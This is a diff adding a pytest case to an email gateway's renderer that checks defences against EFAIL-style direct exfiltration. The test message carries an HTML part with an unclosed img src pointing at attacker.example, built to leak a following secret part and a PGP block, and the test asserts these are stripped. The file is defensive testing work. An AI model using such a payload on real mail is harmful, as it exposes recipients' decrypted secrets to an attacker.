@@ -4,6 +4,7 @@ import base64
 import re
 
 import pytest
+from selectolax.lexbor import LexborHTMLParser as HTMLParser
 
 from gateway.inspect.render import Attached, Refused, Rendered, attachment, render_message
 from gateway.inspect.sanitise import harmless
@@ -215,3 +216,23 @@ def test_links_leave_in_a_page_of_their_own() -> None:
     assert 'target="_blank"' in link
     assert 'rel="noopener noreferrer nofollow"' in link
     assert "onclick" not in link
+
+
+def test_no_part_reaches_into_the_next() -> None:
+    """CR-07: EFAIL's direct exfiltration. An attribute left open in one part would send the next one, which was secret,
+    to the attacker's server; each part is closed by itself, and nothing is loaded.
+    """
+    shown = rendered(
+        mixed(
+            b'Content-Type: text/html\r\n\r\n<p>hello<img src="http://attacker.example/?',
+            b"Content-Type: text/plain\r\n\r\nHIV positive",
+            b'Content-Type: text/html\r\n\r\n"><p>bye',
+            b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----",
+        )
+    )
+    tree = HTMLParser(shown.html)
+    assert [node.text() for node in tree.css("div.plain")] == ["HIV positive"]
+    assert "attacker.example" not in shown.html
+    assert not re.search(r"\b(src|href|style|srcset|action|background)\s*=", shown.html, re.IGNORECASE)
+    assert "BEGIN PGP" not in shown.html
+    assert [file.name for file in shown.attachments] == ["encrypted.asc"]
